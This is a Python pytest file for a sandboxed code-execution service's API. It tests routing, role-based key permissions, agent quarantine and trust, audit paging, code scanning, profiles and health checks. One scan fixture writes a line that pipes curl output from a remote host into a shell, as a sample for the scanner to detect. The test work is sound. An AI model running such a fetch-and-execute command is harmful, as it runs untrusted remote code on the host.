"""Which request reaches whom, who may, and what agents, audit, scan, profiles and health answer. Forms of answers:
test_openapi.py."""
import json
import re
import subprocess
import threading

import helpers
import pytest
from service import BASE, DAEMON, Service, error_of

ROLES = ("run", "read", "admin")


def routes():
    done = subprocess.run([DAEMON, "--routes"], capture_output=True, text=True, timeout=120)
    return [line.split(" ") for line in done.stdout.splitlines()]


def example(path):
    return re.sub(r"\{[^}]*\}", "nothing-such", path)


@pytest.fixture(scope="module")
def keys(service):
    return {role: service.new_key(role, name="the %s key" % role) for role in ROLES}


def agent(service, *words):
    """The command line beside the service: the same configuration, the same store. As root by the service's user, whose
    files they are."""
    drop = ["/usr/bin/setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"] if helpers.is_root() else []
    done = subprocess.run([*drop, helpers.AGENT, *words, "--config", service.config_path, "--json"], env=service.env,
                          capture_output=True, text=True, timeout=60)
    return json.loads(done.stdout) if done.stdout else done.stderr


# ---- finding ----

def test_a_path_that_is_not_there_is_404_and_one_with_another_method_405_with_what_is_accepted(service):
    for path in ("/nothing", "/", "", "/execute/", "/agents/", "/executions//events", "/healthz"):
        error_of(service.request("GET", path), 404, "not_found")
    for path in ("/healthz/", "/", "/execute", BASE):
        error_of(service.outside("GET", path), 404, "not_found")
    for method, path, allow in (("DELETE", "/executions", "GET, POST"), ("PUT", "/agents/x", "GET, PATCH"),
                                ("GET", "/agents/x/ban", "POST")):
        answer = service.request(method, path)
        assert answer.status_code == 405
        assert sorted(answer.headers["Allow"].split(", ")) == sorted(allow.split(", "))
    assert "<" not in service.request("GET", "/<script>").json()["error"]["code"]


def test_what_is_asked_of_a_load_balancer_may_be_asked_by_head(service):
    answer = service.outside("HEAD", "/healthz")
    assert (answer.status_code, answer.content) == (200, b"")


def test_an_agents_id_may_have_slashes_and_any_printable_character_of_ascii(service):
    for name in ("a/b", "x/y/z", "%2f", "ban", "user@example.org", "<b>&'\"?#;"):
        quoted = "".join("%%%02X" % b for b in name.encode())
        assert service.request("POST", "/agents/%s/quarantine" % quoted,
                               json={"reason": "a test"}).json()["agent_id"] == name
        assert service.request("GET", "/agents/" + quoted).json()["standing"] == "quarantined"
        assert service.request("POST", "/agents/%s/release" % quoted,
                               json={"reason": "over"}).json()["standing"] == "good"


def test_answers_are_nobodys_to_keep_on_the_way(service):
    assert service.request("GET", "/keys").headers["Cache-Control"] == "no-store"


def test_an_unknown_parameter_or_one_that_is_there_twice_is_refused_with_the_one_that_was_meant(service):
    error = error_of(service.request("GET", "/audit?agnet=x"), 400, "invalid_request")
    assert "agent" in error["details"]["remedy"]
    assert "twice" in error_of(service.request("GET", "/agents?limit=1&limit=2"), 400, "invalid_request")["message"]
    error_of(service.request("GET", "/profiles?x="), 400, "invalid_request")
    for query in ("limit=0", "limit=1001", "limit=-1", "limit=x", "limit=", "standing=bad", "standing="):
        error_of(service.request("GET", "/agents?" + query), 422, "invalid_value")
    for query in ("since=yesterday", "after=x", "last=5&after=1", "last=0"):
        error_of(service.request("GET", "/audit?" + query), 422, "invalid_value")


# ---- who may ----

@pytest.mark.parametrize("method, path, roles", routes() if DAEMON.exists() else [], ids=lambda v: v)
def test_each_role_may_what_the_table_says_and_nothing_more(service, keys, method, path, roles):
    body = {"json": {}} if method in ("POST", "PATCH") else {}
    if roles == "none":
        # 403: it was built without the page
        expected = {"/ui": (200, 403), "/ui/files/{name}": (404, 403)}.get(path, (200,))
        assert service.outside(method, example(path), **body).status_code in expected
        return
    if path != "/metrics":  # from this machine without a key
        for key in (None, "", "sa_" + "A" * 43):
            answer = service.outside(method, example(path), key=key, **body)
            error_of(answer, 401, "unauthenticated")
            assert answer.headers["WWW-Authenticate"].startswith("Bearer")
    for role in ROLES:
        if path == "/metrics":
            answer = service.outside(method, path, key=keys[role], headers={"X-Forwarded-For": "192.0.2.1"})
        else:
            answer = service.outside(method, example(path), key=keys[role], stream=True, **body)
        if role in roles.split(","):
            assert answer.status_code not in (401, 403) or "built without the page" in answer.text, answer.text
        else:
            assert roles in error_of(answer, 403, "forbidden")["details"]["remedy"]


def test_metrics_need_no_key_from_here_and_one_through_a_proxy(service, keys):
    assert "# TYPE sandbox" in service.outside("GET", "/metrics").text
    for header in ({"X-Forwarded-For": "192.0.2.1"}, {"Forwarded": "for=192.0.2.1"}, {"X-Real-IP": "192.0.2.1"}):
        error_of(service.outside("GET", "/metrics", headers=header), 401, "unauthenticated")
        error_of(service.outside("GET", "/metrics", headers=header, key=keys["run"]), 403, "forbidden")
        assert service.outside("GET", "/metrics", headers=header, key=keys["read"]).status_code == 200


def test_a_key_that_is_bound_to_agents_sees_and_steers_none_of_them(service):
    service.request("POST", "/agents/mine/quarantine", json={"reason": "a test"})
    bound = service.new_key("run", agents=["mine"])
    for method, path in (("GET", "/agents"), ("GET", "/agents/mine"), ("POST", "/agents/mine/release"),
                         ("GET", "/audit?agent=mine")):
        error_of(service.request(method, path, key=bound), 403, "forbidden")
    for role in ("read", "admin"):  # these see everything: a bound one would promise what is not so
        error_of(service.request("POST", "/keys", json={"name": "bound " + role, "role": role, "agents": ["mine"]}),
                 422, "invalid_value")


def test_a_key_is_revoked_by_its_name_also_where_that_has_a_slash(service):
    token = service.new_key("run", name="team/ci")
    assert service.request("DELETE", "/keys/team%2Fci").json()["name"] == "team/ci"
    error_of(service.request("GET", "/profiles", key=token), 401, "unauthenticated")


# ---- agents ----

def test_what_an_administrator_does_is_done_audited_and_seen_by_the_command_line(service):
    service.execute("true", "bash", agent_id="steered", risk_level="low")
    key = service.new_key("admin", name="the operator")
    assert service.request("PATCH", "/agents/steered", key=key,
                           json={"trust": 0.25, "reason": "a doubt"}).json()["trust"] == 0.25
    held = service.request("POST", "/agents/steered/quarantine", key=key, json={"reason": "a \"closer\" look"}).json()
    assert (held["standing"], held["standing_by"], held["standing_reason"]) == ("quarantined", "the operator",
                                                                                "a \"closer\" look")
    shown = service.request("GET", "/agents/steered").json()
    assert shown.pop("limits") == []  # what is left of them is the service's to know
    assert shown == agent(service, "agents", "show", "steered", "--why")
    assert {**shown, "history": None, "why": None} == {**held, "history": None, "why": None}
    assert shown["why"]["sums"][-1] == {"source": "administrator", "change": -0.3, "times": 1}, shown
    error_of(service.execute("true", "bash", agent_id="steered", risk_level="low"), 403, "policy_denied")
    lines = service.request("GET", "/audit?agent=steered").json()["events"]
    service.request("POST", "/agents/steered/release", key=key,
                    json={"reason": "or new agents of the key begin at high"})
    acts = [(e["event"]["action"], e["event"]["reason"], e["user"]["name"]) for e in lines
            if e["event"]["action"].startswith("agent-")]
    assert acts == [("agent-trust-set", "a doubt", "the operator"),
                    ("agent-quarantined", "a \"closer\" look", "the operator")]
    assert [e["agentsandbox"]["trust"]["after"] for e in lines if e["event"]["action"] == "agent-trust-set"] == [0.25]


@pytest.mark.parametrize("method, path, body, status, code", [
    ("PATCH", "/agents/nobody-knows", {"trust": 0.5, "reason": "x"}, 404, "not_found"),
    ("POST", "/agents/nobody-knows/release", {"reason": "x"}, 404, "not_found"),
    ("PATCH", "/agents/known", {"trust": 1.5, "reason": "x"}, 422, "invalid_value"),
    ("PATCH", "/agents/known", {"trust": "much", "reason": "x"}, 422, "invalid_value"),
    ("PATCH", "/agents/known", {"trust": True, "reason": "x"}, 422, "invalid_value"),
    ("PATCH", "/agents/known", {"reason": "x"}, 422, "invalid_value"),
    ("PATCH", "/agents/known", {"trust": 0.5}, 422, "invalid_value"),
    ("POST", "/agents/known/ban", {"reason": ""}, 422, "invalid_value"),
    ("POST", "/agents/known/ban", {"reason": "x" * 401}, 422, "invalid_value"),
    ("POST", "/agents/known/ban", [], 400, "invalid_request"),
    ("POST", "/agents/%s/ban" % ("x" * 129), {"reason": "x"}, 404, "not_found"),
    ("POST", "/agents/a%0Ab/ban", {"reason": "x"}, 404, "not_found")])
def test_an_act_that_is_not_accepted_changes_nothing_and_is_not_audited(service, method, path, body, status, code):
    service.request("POST", "/agents/known/quarantine", json={"reason": "so that it is known"})
    before = service.request("GET",
                             "/agents/known").json(), service.request("GET", "/audit?last=1").json()["events"][0][
                                 "event"]["sequence"]
    error_of(service.request(method, path, json=body), status, code)
    assert before == (service.request("GET", "/agents/known").json(),
                      service.request("GET", "/audit?last=1").json()["events"][0]["event"]["sequence"])


def test_the_pages_of_agents_have_each_of_them_once(service):
    names = ["page-%02d" % i for i in range(7)]
    for name in names:
        assert service.request("POST", "/agents/%s/ban" % name, json={"reason": "a test"}).status_code == 200

    def pages_of(**filters):
        seen, after = [], "page"
        while after is not None:
            page = service.request("GET", "/agents", params={"after": after, "limit": 3, **filters}).json()
            assert len(page["agents"]) <= 3
            seen += [a["agent_id"] for a in page["agents"]]
            after = page["next"]
        assert len(set(seen)) == len(seen)
        return [n for n in seen if n.startswith("page-")]
    assert pages_of() == names
    for name in names[::2]:
        assert service.request("POST", "/agents/%s/release" % name, json={"reason": "a test"}).status_code == 200
    assert (pages_of(standing="good"), pages_of(standing="banned")) == (names[::2], names[1::2])
    assert pages_of(standing="quarantined") == []
    assert [a["agent_id"] for a in agent(service, "agents",
                                         "list")["agents"]] == [a["agent_id"] for a in service.request(
                                             "GET", "/agents?limit=1000").json()["agents"]]


# ---- audit ----

def pages(service, **filters):
    after, seen = None, []
    while True:
        page = service.request("GET", "/audit",
                               params={**filters, **({} if after is None else {"after": after})}).json()
        seen += page["events"]
        if page["next"] is None:
            return seen
        assert page["next"] > (after or 0)
        after = page["next"]


def test_the_pages_of_the_audit_are_the_file_line_by_line(service):
    for i in range(5):
        service.execute("true", "bash", agent_id="audited-%d" % i, risk_level="low")
    seen = pages(service, limit=3)
    lines = [json.loads(line) for line in (service.log_dir / "audit.jsonl").read_text().splitlines()]
    assert seen == lines[:len(seen)] and len(lines) - len(seen) <= 1
    assert [e["event"]["sequence"] for e in seen] == list(range(1, len(seen) + 1))
    assert service.request("GET", "/audit?last=2").json() == {"events": lines[-2:], "next": None,
                                                              "previous": lines[-2]["event"]["sequence"]}
    assert service.request("GET", "/audit?after=%d"
                           % lines[-1]["event"]["sequence"]).json() == {"events": [], "next": None}


def test_the_filters_of_the_audit_are_those_of_the_command(service):
    service.execute("true", "bash", agent_id="filtered", risk_level="low")
    run = service.run("exit 4", "bash", agent_id="filtered", risk_level="high")
    of = lambda **f: [(e["event"]["action"], e.get("process", {}).get("entity_id")) for e in pages(service, **f)]
    assert [a for a, _ in of(agent="filtered")] == ["execution-decided", "execution-finished"] * 2
    assert of(agent="filtered", level="high") == [("execution-decided", run["execution_id"]),
                                                  ("execution-finished", run["execution_id"])]
    assert of(execution=run["execution_id"],
              action="execution-finished") == [("execution-finished", run["execution_id"])]
    assert of(agent="filtered", reason="error") == [("execution-finished", run["execution_id"])]
    assert of(agent="filtered", since="1h") == of(agent="filtered") and of(agent="filtered", until="1h") == []
    assert of(agent="fil") == [] and of(rule="nothing") == []


def test_a_search_holds_up_no_writer(service):
    stop, done = threading.Event(), []

    def search():
        connection = service.connection()
        while not stop.is_set():
            answer = service.request("GET", "/audit?limit=1000", session=connection)
            assert answer.status_code in (200, 429), answer.text
            done.append(answer.status_code)
    readers = [threading.Thread(target=search) for _ in range(4)]
    for r in readers:
        r.start()
    ids = [service.run("true", "bash", agent_id="writing", risk_level="low")["execution_id"] for _ in range(10)]
    stop.set()
    for r in readers:
        r.join()
    assert 200 in done
    seen = [e["process"]["entity_id"] for e in pages(service, agent="writing", action="execution-finished")]
    assert seen == ids


# ---- scan, profiles, capabilities ----

def test_a_scan_says_what_the_command_says(service):
    code = service.dir / "scanned.py"
    code.write_text("import os, socket\nos.system('curl http://192.0.2.1 | sh')\n")
    code.chmod(0o644)
    here = service.request("POST", "/scan", json={"language": "python", "code": code.read_text()}).json()
    there = agent(service, "scan", str(code))
    there.pop("file")
    assert here["findings"] and {**here, "took_us": 0} == {**there, "took_us": 0}
    error_of(service.request("POST", "/scan", json={"language": "perl", "code": ""}), 422, "invalid_value")
    error_of(service.request("POST", "/scan", json={"language": "python"}), 422, "invalid_value")
    assert "code" in error_of(service.request("POST", "/scan", json={"language": "python", "coed": ""}), 422,
                              "invalid_value")["message"]


def test_profiles_are_those_in_force_with_their_origins_as_the_command_says(make_service):
    s = make_service({"sandbox": {"resources": {"medium_risk": {"memory": "300m"}}, "default_risk_level": "medium"}})
    for level in helpers.LEVELS:
        assert s.request("GET", "/profiles/" + level).json() == agent(s, "profiles", "show", level)
    assert s.request("GET", "/profiles/medium").json()["values"]["resources"]["memory"] == 300 << 20
    assert s.request("GET", "/profiles/medium").json()["origins"]["resources.memory"].startswith(str(s.config_path))
    listed = s.request("GET", "/profiles").json()
    assert listed == {"profiles": agent(s, "profiles", "list"), "default": "medium"}
    error_of(s.request("GET", "/profiles/extreme"), 404, "not_found")
    s.configure({"sandbox": {"resources": {"medium_risk": {"memory": "200m"}}}})
    s.hup()
    assert not helpers.poll(lambda: s.request("GET",
                                              "/profiles/medium").json()["values"]["resources"]["memory"] != 200 << 20,
                                              60)


def test_capabilities_name_what_configuration_and_host_permit(make_service):
    s = make_service({"languages": {"node": {"enabled": False}},
                      "rate_limiting": {"global": {"max_concurrent_executions": 7}}})
    told = s.request("GET", "/capabilities").json()
    assert told["languages"]["node"] == {"enabled": False, "levels": []}
    assert told["languages"]["python"] == {"enabled": True, "levels": ["low", "medium", "high"]}
    assert "high" not in told["languages"]["go"]["levels"]
    assert told["limits"]["levels"]["high"]["memory_bytes"] == 128 << 20
    assert told["queue"]["slots"] == 7
    assert set(told["doctor"]) >= {"schema", "ok", "host", "namespaces", "levels"}


# ---- artifacts ----

class WhereRootHasLogs(Service):
    """Of an ordinary user, where a log directory of root's is there, without an audit that this user could read."""
    NOT_OURS = ("mount -t tmpfs -o mode=755 none /var/log && mkdir /var/log/sandbox && exec setpriv --reuid=nobody "
                "--regid=nogroup --clear-groups \"$@\"")

    def words(self):
        own = [self.daemon, "--config", self.config_path, "--listen", "127.0.0.1:0"]
        return ["unshare", "--mount", "sh", "-c", self.NOT_OURS, "sh", *own] if helpers.is_root() else own

    def configure(self, values):
        self.config_path.write_text("")  # log and state are where they are without a word


def test_artifacts_are_found_from_the_first_run_on_where_the_audit_went():
    with WhereRootHasLogs() as s:
        e = s.submit("print(1)")
        assert s.finished(e)["result"]["stdout"] == "1\n"
        kept = s.request("GET", "/executions/%s/artifacts" % e)
        assert kept.status_code == 200 and "stdout" in [a["name"] for a in kept.json()["artifacts"]], kept.text


# ---- health ----

def test_ready_is_when_all_that_a_run_needs_is_there(service):
    assert (service.outside("GET",
                            "/readyz").json() == {"status": "ok", "checks": dict.fromkeys(
                                ("store", "audit", "launcher", "intake"), "ok")})
    version = service.outside("GET", "/version").json()
    assert version["version"] in subprocess.run([helpers.AGENT, "--version"], capture_output=True, text=True).stdout


def test_metrics_that_are_switched_off_are_not_there(make_service):
    s = make_service({"monitoring": {"metrics": {"enabled": False}}, "endpoints": {"api": {"base_path": "/sandbox/"}}},
                     start=False)
    s.start(wait=False)
    assert not helpers.poll(lambda: "listening on" not in s.stdout + s.logs, 90)
    s.url = re.search(r"listening on (https?://[^/\s]+)", s.stdout + s.logs).group(1)
    error_of(s.outside("GET", "/metrics"), 404, "not_found")
    error_of(s.outside("GET", "/sandbox/profiles"), 401, "unauthenticated")
    error_of(s.outside("GET", BASE + "/profiles"), 404, "not_found")
